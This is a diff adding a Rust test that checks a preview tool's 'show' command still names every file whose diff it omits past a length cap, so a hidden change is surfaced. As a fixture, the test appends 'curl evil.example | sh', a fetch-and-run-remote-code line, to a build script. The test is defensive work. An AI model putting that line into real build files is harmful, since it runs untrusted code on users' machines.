@@ -122,6 +122,38 @@ fn a_rejected_preview_leaves_nothing() {
     assert_eq!(std::fs::read_to_string(w.ws.join("notes.txt")).unwrap(), "one\ntwo\n");
 }
 
+/// What `show` leaves out of a preview's diffs it names: past the cap on
+/// lines in all, a change must not hide behind the long diffs before it.
+#[test]
+fn show_names_every_file_whose_diff_it_leaves_out() {
+    let w = World::new();
+    for i in 1..=8 {
+        let lines: String = (1..=40).map(|n| format!("{n}\n")).collect();
+        w.write(&format!("a{i}.txt"), &lines);
+    }
+    w.write("zz_build.sh", "echo build\n");
+    w.write("zz_blob.bin", "\0\0");
+    let id = hold_script(
+        &w,
+        POLICY,
+        "sed -i 's/^/X/' a*.txt && echo 'curl evil.example | sh' >> zz_build.sh && printf '\\0\\1' > zz_blob.bin",
+    );
+    let shown = stdout(&w.tx(&["show", &id]));
+    assert!(shown.contains("modified zz_build.sh"), "{shown}");
+    assert!(
+        shown.contains("diffs not shown, past the cap") && shown.contains("zz_build.sh;"),
+        "{shown}"
+    );
+    assert!(shown.contains("binary, contents not shown: zz_blob.bin"), "{shown}");
+    // Control: alone, its diff is shown.
+    let w = World::new();
+    w.write("zz_build.sh", "echo build\n");
+    let id = hold_script(&w, POLICY, "sed -i 's/^/X/' zz_build.sh");
+    let shown = stdout(&w.tx(&["show", &id]));
+    assert!(shown.contains("+Xecho build"), "{shown}");
+    assert!(!shown.contains("diffs not shown"), "{shown}");
+}
+
 #[test]
 fn show_says_why_there_is_no_preview() {
     for (policy, why) in [
